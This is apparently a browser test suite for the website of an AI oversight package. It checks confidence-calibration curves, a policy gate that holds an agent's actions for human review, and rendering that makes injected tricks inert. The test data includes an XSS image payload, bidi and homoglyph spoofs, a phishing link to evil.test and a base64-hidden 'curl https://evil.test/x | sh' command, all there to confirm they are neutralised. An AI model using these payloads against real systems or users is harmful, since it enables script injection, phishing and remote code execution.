// The page in `www`, in Chromium, as a visitor uses it.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { calibration, contextPackage, createGate, renderMarkdown, renderText } from "holdpoint";
import { parseYamlPolicy } from "holdpoint/node";
import { editors, isBuilt, open, skip, start, write } from "./www-support.mjs";

let world;
before(async () => {
  if (!skip) world = await start();
});
after(() => world?.stop());

/** Runs a test in a page of its own, which must complain about nothing. */
function visit(name, hash, run, options) {
  test(name, { skip }, async () => {
    const { page, complaints, close } = await open(world, hash, options);
    try {
      await run(page);
      assert.deepEqual(complaints, []);
    } finally {
      await close();
    }
  });
}

const headline = (page, view) => page.textContent(`#${view}-sentence`);
const percents = (text) => [...text.matchAll(/([\d.]+)\s%/g)].map(([, number]) => Number(number));
/** The rows of the curves' table: step, naive, calibrated, held, together, least, most. */
const rows = (page) => page.locator("#chain .card table tbody tr").evaluateAll((all) => all.map((row) => [...row.children].map((cell) => cell.textContent)));
const shown = (share) => (share < 0.1 && share > 0 ? Number((100 * share).toFixed(1)) : Number((100 * share).toFixed(0)));

visit("the curves are the package's", "", async (page) => {
  const [naive, calibrated] = percents(await headline(page, "chain")).slice(-2);
  const chain = calibration.chain(Array(10).fill(0.9), { correlation: 0.3 });
  const { reliability } = calibration.placeHolds(Array(10).fill(0.75), { budget: 3, catchRate: 0.8, mode: "topk" });
  assert.deepEqual([naive, calibrated], [shown(chain.naive), shown(chain.calibrated)]);
  const all = await rows(page);
  assert.equal(all.length, 11);
  const last = all.at(-1).slice(1).map((cell) => percents(cell)[0]);
  assert.deepEqual(last, [chain.naive, chain.calibrated, reliability, chain.correlated, chain.lower, chain.upper].map(shown));
});

visit("a slider moves the curve, by pointer and by keyboard", "", async (page) => {
  const curve = () => page.locator("#chain path.calibrated").getAttribute("d");
  const [before, sentence] = [await curve(), await headline(page, "chain")];
  await page.getByLabel("Each step claims").focus();
  for (let press = 0; press < 5; press++) await page.keyboard.press("ArrowRight");
  assert.notEqual(await curve(), before);
  assert.match(await headline(page, "chain"), /claimed at 95\s%/);
  await page.getByLabel("Steps in a row").fill("4");
  assert.equal((await rows(page)).length, 5);
  assert.notEqual(await headline(page, "chain"), sentence);
  const together = (await rows(page)).at(-1)[4];
  await page.getByLabel("Correlation between steps").fill("90");
  assert.ok(percents((await rows(page)).at(-1)[4])[0] > percents(together)[0], "steps that fail together are right together more often");
});

visit("the pointer reads the curve where it is", "", async (page) => {
  const plot = await page.locator("#chain .plot svg").boundingBox();
  await page.mouse.move(plot.x + 44 + (plot.width - 56) * 0.3, plot.y + 100);
  assert.match(await page.textContent("#chain .read-at"), /after step 3$/);
  const values = await page.locator("#chain .legend dd").allTextContents();
  assert.deepEqual(values.slice(0, 2).map((value) => percents(value)[0]), [shown(0.9 ** 3), shown(0.75 ** 3)]);
  await page.mouse.move(plot.x + 10, plot.y - 60);
  assert.match(await page.textContent("#chain .read-at"), /after step 10$/);
  await page.locator("#read").focus();
  await page.keyboard.press("ArrowLeft");
  assert.match(await page.textContent("#chain .read-at"), /after step 9$/);
});

visit("the hold goes where doubt is greatest", "#chain?holds=1", async (page) => {
  await page.getByLabel("Step 7 claims").fill("60");
  assert.deepEqual(await page.locator(".strips .is-held .step").allTextContents(), ["7"]);
  await page.getByLabel("Step 2 claims").fill("55");
  assert.deepEqual(await page.locator(".strips .is-held .step").allTextContents(), ["2"]);
  assert.match(await page.textContent(".where"), /^Hold step 2\./);
  await page.getByRole("button", { name: "Ever less sure" }).click();
  assert.deepEqual(await page.locator(".strips .is-held .step").allTextContents(), ["10"]);
});

visit("a log of 100,000 rows is fitted while the page goes on", "", async (page) => {
  const samples = Array.from({ length: 100_000 }, (_, at) => ({ confidence: 0.5 + (at % 50) / 100, correct: (at * 7919) % 100 < 40 + (at % 50) / 2 }));
  const csv = `confidence,correct\n${samples.map(({ confidence, correct }) => `${confidence},${correct}`).join("\n")}\n`;
  // Frames are counted from the moment the file is given until the result stands: a frozen page draws none.
  await page.evaluate(() => {
    const place = document.querySelector(".result");
    globalThis.frames_ = 0;
    const count = () => void (place.childElementCount === 0 && (globalThis.frames_++, requestAnimationFrame(count)));
    document.querySelector("#log-file").addEventListener("change", count);
  });
  await page.setInputFiles("#log-file", { name: "log.csv", mimeType: "text/csv", buffer: Buffer.from(csv) });
  await page.getByLabel("Steps in a row").fill("5");
  assert.match(await headline(page, "chain"), /^Five/);
  await page.locator(".result h4").waitFor();
  assert.ok((await page.evaluate(() => globalThis.frames_)) > 1);
  assert.match(await page.textContent(".result h4"), /^Over 100,000 outcomes this agent is too sure of itself\.$/);
  const calibrator = calibration.fit(samples);
  const facts = await page.locator(".facts strong").allTextContents();
  assert.equal(percents(facts[4])[0], shown(calibration.apply(calibrator, 0.9).p));
  assert.equal(percents(facts[2])[0], shown(calibration.metrics(samples).smoothEce));
  assert.equal(await page.locator(".result .bin").count(), calibration.reliability(samples).length);
  const { calibrated } = calibration.chain(Array(5).fill(0.9), { calibrator });
  assert.equal(percents(await headline(page, "chain")).at(-1), shown(calibrated));
  await page.getByRole("button", { name: "Forget it" }).click();
  assert.equal(percents(await headline(page, "chain")).at(-1), shown(0.75 ** 5));
});

visit("a log that is none says what to do", "", async (page) => {
  const fit = async (text) => {
    await page.locator("#log-text").fill(text);
    await page.getByRole("button", { name: "Fit these lines" }).click();
    await page.locator(".progress").waitFor({ state: "hidden" });
    return page.textContent(".state-line [role=status]");
  };
  await page.getByText("Paste lines, or name the columns").click();
  assert.match(await fit(""), /the log is empty; its first line names the columns/);
  assert.match(await fit("sure,right\n0.9,1"), /no column `confidence` in the header, which has `sure`, `right`; write its name in the field above/);
  await page.locator("#log-confidence").fill("sure");
  await page.locator("#log-correct").fill("right");
  assert.match(await fit("sure,right\n0.9,1\n0.8,perhaps\n0.7,0"), /^Fitted 2 outcomes in .* 1 line could not be read/i);
  assert.match(await page.textContent(".note"), /Line 3: .*perhaps/);
  await page.locator("#log-confidence").fill("");
  await page.locator("#log-correct").fill("");
  assert.match(await fit('{"confidence":0.9,"correct":true}\n{"confidence":0.5,"correct":false}'), /^Fitted 2 outcomes/);
});

visit("every example decides as the package does", "#gate", async (page) => {
  await editors(page);
  const { GROUPS, POLICY } = await examples();
  const gate = createGate(parseYamlPolicy(POLICY));
  const seen = new Set();
  for (const { name, action, context } of GROUPS.flatMap(({ examples }) => examples)) {
    await page.getByRole("button", { name, exact: true }).click();
    const decision = gate.decide(JSON.parse(action), JSON.parse(context));
    seen.add(decision.oversight);
    assert.equal(await page.textContent(".said"), `Decision: ${decision.oversight}`, name);
    assert.deepEqual(await page.locator(".sentences li").allTextContents(), gate.explain(decision).map((sentence) => sentence.replaceAll("`", "")), name);
    assert.equal(await page.locator(".scale [aria-current]").textContent(), decision.oversight);
    assert.match(await headline(page, "gate"), new RegExp(`^${JSON.parse(action).tool.replace(".", "\\.")} `));
  }
  assert.deepEqual([...seen].sort(), ["block", "hold", "log", "proceed", "review"]);
});

visit("a mistake in the policy is shown below its line, and mended as you type", "#gate", async (page) => {
  await editors(page);
  const { POLICY } = await examples();
  await write(page, "policy", POLICY.replace("tier: external", "teir: external"));
  const line = POLICY.split("\n").findIndex((text) => text.includes("tier: external")) + 1;
  const problem = page.locator(".policy .cm-problem-error");
  assert.match(await problem.textContent(), /`\/tools\/3\/teir` is not a known key; did you mean `tier`\?/);
  assert.equal(await page.locator(".policy .cm-error").textContent(), "teir");
  assert.match(await problem.evaluate((node) => node.previousElementSibling.textContent), /teir: external/);
  assert.match(await page.textContent(".mending"), new RegExp(`policy, line ${line}`));
  assert.equal(await headline(page, "gate"), "No decision yet, so nothing runs.");
  await write(page, "policy", POLICY);
  await problem.waitFor({ state: "detached" });
  assert.match(await headline(page, "gate"), /waits here for a person/);
});

visit("what is no JSON, and what is no action, is said at its place", "#gate", async (page) => {
  await editors(page);
  await write(page, "action", '{\n  "tool": "get_order",\n  "args": {},\n  oops\n}');
  assert.match(await page.locator(".action .cm-problem").evaluate((node) => node.previousElementSibling.textContent), /oops/);
  assert.match(await page.textContent(".mending"), /action, line 4 This is not JSON/);
  await write(page, "action", '{\n  "tool": "get_order",\n  "args": {},\n  "sesion": "s"\n}');
  assert.match((await page.locator(".action .cm-problem").allTextContents()).join(), /did you mean `session`/);
});

visit("the policy is completed by its schema, in YAML and in JSON", "#gate", async (page) => {
  await editors(page);
  const offered = async (text) => {
    await write(page, "policy", text);
    await page.keyboard.press("Control+Space");
    await page.locator(".policy .cm-tooltip-autocomplete li").first().waitFor();
    const labels = await page.locator(".policy .cm-completionLabel").allTextContents();
    await page.keyboard.press("Escape");
    return labels;
  };
  assert.ok((await offered("holdpoint: 1\nname: x\ntri")).includes("triggers"));
  assert.deepEqual(await offered("holdpoint: 1\ntools:\n  - id: a\n    tool: b\n    tier: ext"), ["external"]);
  const keys = await offered("holdpoint: 1\ntools:\n  - id: a\n    ");
  assert.ok(keys.includes("critical") && !keys.includes("id"), keys.join());
  assert.deepEqual(await offered("holdpoint: 1\napproval:\n  onTimeout: "), ["deny", "escalate", "kill"]);
  assert.equal((await offered("holdpoint: 1\ntools:\n  - { id: a, tool: b, category: del"))[0], "delete_data");
  assert.ok((await offered('{ "holdpoint": 1, "tools": [{ "id": "a", "un')).includes("undo"));
  await write(page, "policy", "holdpoint: 1\nname: x\ncurr");
  await page.locator(".policy .cm-tooltip-autocomplete li").first().waitFor();
  await page.waitForTimeout(150); // the list takes no keys in its first moments, so that nobody chooses by accident
  await page.keyboard.press("Enter");
  await page.keyboard.insertText("USD");
  await page.keyboard.press("Escape");
  assert.match(await headline(page, "gate"), /payments\.refund/);
});

visit("text from an action stays text", "#gate", async (page) => {
  await editors(page);
  await write(page, "action", JSON.stringify({ tool: "holdpoint.<img src=x onerror=alert(1)>\u202e", args: {}, session: "s" }));
  assert.match(await page.textContent(".sentences"), /<img src=x/);
  assert.match(await headline(page, "gate"), /<img src=x onerror/);
  assert.equal(await page.locator("#gate :is(.decision, h2) img").count(), 0);
  assert.ok(!(await page.locator("#gate .decision").textContent()).includes("\u202e"));
});

visit("the chain of the first view goes before the action, and its calibrator into the gate", "#chain?claims=70x8", async (page) => {
  await page.getByRole("link", { name: "May this action run?" }).first().click();
  await isBuilt(page, "gate");
  await editors(page);
  await page.getByRole("button", { name: "a draft", exact: true }).click();
  assert.equal(await page.textContent(".said"), "Decision: log");
  await page.getByRole("button", { name: "Let the eight steps of view 1 come before it" }).click();
  assert.equal(await page.textContent(".said"), "Decision: review");
  assert.match(await page.textContent("#gate table"), /confidence/);
});

visit("the package is the package's, in every rendering, with one digest", "#package", async (page) => {
  const { POLICY, ACTION, CONTEXT } = await examples();
  const action = JSON.parse(ACTION);
  const extra = { requestId: "req-1042", step: 3, tool: { title: "Refund a payment", schemaVersion: "3" }, lastApproved: { args: { ...action.args, amount: "25.00" }, requestId: "req-0981" } };
  const pkg = contextPackage(createGate(parseYamlPolicy(POLICY)), action, JSON.parse(CONTEXT), extra);
  const shown = () => page.textContent("#package .shown");
  assert.equal(await shown(), renderText(pkg, { width: 84 }));
  await page.getByLabel("open what is collapsed").check();
  await page.getByLabel("Markdown", { exact: true }).check();
  assert.equal(await shown(), renderMarkdown(pkg, { full: true }));
  await page.getByLabel("Data", { exact: true }).check();
  assert.deepEqual(JSON.parse(await shown()), pkg);
  await page.getByLabel("Slack", { exact: true }).check();
  assert.match(await shown(), /Refund 250\.00 to "Ann Miller"[^]*Approve/);
  assert.equal(await page.textContent("#package .digest code"), pkg.digest);
});

visit("the dialog is the element: it shows the package, and its answer is shown", "#package?rendering=dialog", async (page) => {
  const review = page.locator("holdpoint-review");
  const wanted = await page.textContent("#package .digest code");
  await review.getByText(wanted, { exact: false }).first().waitFor();
  assert.equal(await review.locator(".complaint").count(), 0);
  await page.getByRole("button", { name: "Reject…" }).click();
  await page.getByRole("button", { name: "Reject", exact: true }).click();
  const answer = JSON.parse(await page.getByRole("region", { name: "The answer" }).textContent());
  assert.deepEqual([answer.id, answer.verdict, answer.digests.package], ["req-1042", "reject", wanted]);
  await page.getByRole("button", { name: "Answer again" }).click();
  await review.getByText("Waits for a person", { exact: true }).waitFor();
  assert.equal(await page.getByRole("region", { name: "The answer" }).count(), 0);
  // A trick that is switched on is in it at once, as another package.
  await page.getByLabel("Letters that run backwards").check();
  await review.getByText("receipt_⟦U+202E⟧fdp.exe").first().waitFor();
  assert.notEqual(await page.textContent("#package .digest code"), wanted);
  await page.getByLabel("Slack", { exact: true }).check();
  assert.equal(await review.count(), 0);
  await page.getByLabel("Dialog", { exact: true }).check();
  await review.getByText("receipt_⟦U+202E⟧fdp.exe").first().waitFor();
});

visit("every trick comes out inert", "#package", async (page) => {
  await page.getByRole("button", { name: "Try all at once" }).click();
  assert.match(await headline(page, "package"), /^Nine tricks/);
  assert.equal(await page.locator(".comparison").count(), 9);
  for (const name of ["Text", "Markdown", "Slack", "Data"]) {
    await page.getByLabel(name, { exact: true }).check();
    // All of the view but the plain dialogs, which show the lies as they look.
    const text = await page.evaluate(() => {
      const copy = document.querySelector("#package").cloneNode(true);
      for (const lie of copy.querySelectorAll(".naive")) lie.remove();
      return { text: copy.textContent, evil: copy.querySelectorAll("img, script, iframe, a[href*=evil]").length };
    });
    assert.equal(text.evil, 0);
    assert.doesNotMatch(text.text, /[\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2060\ufeff\u001b]/, name);
  }
  const said = async (id) => (await page.locator(`.comparison[data-trick=${id}] .inert`).textContent()).replace(/\s+/g, " ");
  for (const [id, wanted] of Object.entries({
    bidi: /⟦U\+202E⟧fdp\.exe/, "zero-width": /⟦U\+200B⟧/, homoglyph: /xn--pypal-4ve\.com/, link: /\[See refund policy\]\(https:\/\/evil\.test\/login\).*no link/, html: /<img src=x onerror=alert\(1\)>/,
    ansi: /⟦U\+001B⟧/, base64: /base64 for .*curl https:\/\/evil\.test\/x \| sh/, approved: /speaks as if it were approved/, preamble: /lines, .* left out for length/,
  })) assert.match(await said(id), wanted, id);
  await page.waitForFunction(() => location.hash.includes("base64"));
  await page.reload();
  await isBuilt(page, "package");
  assert.equal(await page.locator(".tricks input:checked").count(), 9);
  await page.getByRole("button", { name: "Switch all off" }).click();
  assert.equal(await page.locator(".comparison").count(), 0);
});

visit("where there is no decision there is no package", "#package", async (page) => {
  await page.getByRole("link", { name: "May this action run?" }).first().click();
  await isBuilt(page, "gate");
  await editors(page);
  await write(page, "action", "{}");
  await page.getByRole("link", { name: "What does the reviewer see?" }).first().click();
  assert.match(await page.textContent("#package .shown"), /mend the policy or the action in view 2/);
});

visit("an address brings everything back", "#chain?claims=90x3,60&holds=2&caught=55", async (page) => {
  await page.getByLabel("Correlation between steps").fill("70");
  await page.getByRole("link", { name: "May this action run?" }).first().click();
  await isBuilt(page, "gate");
  await editors(page);
  await page.getByRole("button", { name: "an injection" }).click();
  await write(page, "policy", (await examples()).POLICY.replace("support-desk", "ödesk"));
  await page.waitForFunction(() => location.hash.includes("texts=") && location.hash.startsWith("#gate"));
  await page.waitForTimeout(400); // the address follows a quarter of a second behind
  const state = async (at) => [await at.textContent(".said"), (await at.locator(".policy .cm-content").textContent()).slice(0, 200), await at.locator(".sentences").textContent()];
  const [address, wanted, sentence] = [await page.evaluate(() => location.hash), await state(page), await page.evaluate(() => document.querySelector("#chain-sentence").textContent)];
  const { page: other, close } = await open(world, address);
  await editors(other);
  assert.deepEqual(await state(other), wanted);
  assert.match(wanted[1], /ödesk/);
  await other.getByRole("link", { name: "What is confidence worth?" }).first().click();
  await isBuilt(other, "chain");
  assert.equal(await headline(other, "chain"), sentence);
  assert.equal(await other.getByLabel("Mistakes the person finds").inputValue(), "55");
  assert.equal(await other.getByLabel("Correlation between steps").inputValue(), "70");
  await close();
});

for (const hash of ["#chain?claims=0x5,999&holds=-1&texts=!!!", "#nowhere?claims=90x999", "#chain?texts=AAAA", "#chain?claims=" + "90,".repeat(500)]) {
  visit(`an address that says nothing leaves the page as it starts: ${hash.slice(0, 40)}`, hash.replace("#nowhere", "#chain"), async (page) => {
    assert.match(await headline(page, "chain"), /^Ten steps claimed at 90\s% each/);
  });
}

visit("a calibrator in an address is checked before it is used", "#chain", async (page) => {
  const address = await page.evaluate(async () => {
    const text = JSON.stringify({ calibrator: JSON.stringify({ method: "venn_abers", params: { p0: "<img>" } }) });
    const bytes = new Uint8Array(await new Response(new Blob([text]).stream().pipeThrough(new CompressionStream("deflate-raw"))).arrayBuffer());
    return `#chain?texts=${btoa(String.fromCharCode(...bytes)).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "")}`;
  });
  const { page: other, complaints, close } = await open(world, address);
  assert.match(await headline(other, "chain"), /worth 5\.6/);
  assert.deepEqual(complaints, []);
  await close();
});

/** The examples as the page has them. */
async function examples() {
  const { build } = await import("esbuild");
  const { outputFiles } = await build({ entryPoints: [new URL("../www/src/gate/examples.ts", import.meta.url).pathname], bundle: true, write: false, format: "esm", logLevel: "silent" });
  return import(`data:text/javascript,${encodeURIComponent(outputFiles[0].text)}`);
}
